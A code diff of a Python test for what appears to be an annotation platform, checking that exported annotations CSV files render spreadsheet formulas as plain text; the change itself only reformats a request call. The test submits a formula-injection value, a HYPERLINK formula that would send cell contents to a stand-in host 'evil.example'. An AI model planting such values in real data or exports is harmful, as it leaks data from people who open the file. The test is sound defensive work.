@@ -149,9 +149,11 @@ def test_the_annotations_csv_shows_formulas_as_text(annotator_user):
     client = client_for(annotator_user)
     lease = client.post(f"/api/campaigns/{campaign.id}/next-task/", {}, format="json").json()
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    response = client.post(f"/api/assignments/{lease['id']}/submit/",
-                           {"scores": {OVERALL.key: 0.5}, "idempotency_key": str(uuid.uuid4()), "ui_version": formula[:40]},
-                           format="json")
+    response = client.post(
+        f"/api/assignments/{lease['id']}/submit/",
+        {"scores": {OVERALL.key: 0.5}, "idempotency_key": str(uuid.uuid4()), "ui_version": formula[:40]},
+        format="json",
+    )
     assert response.status_code in (200, 201), response.content
     browser = Client()
     browser.force_login(factories.curator())
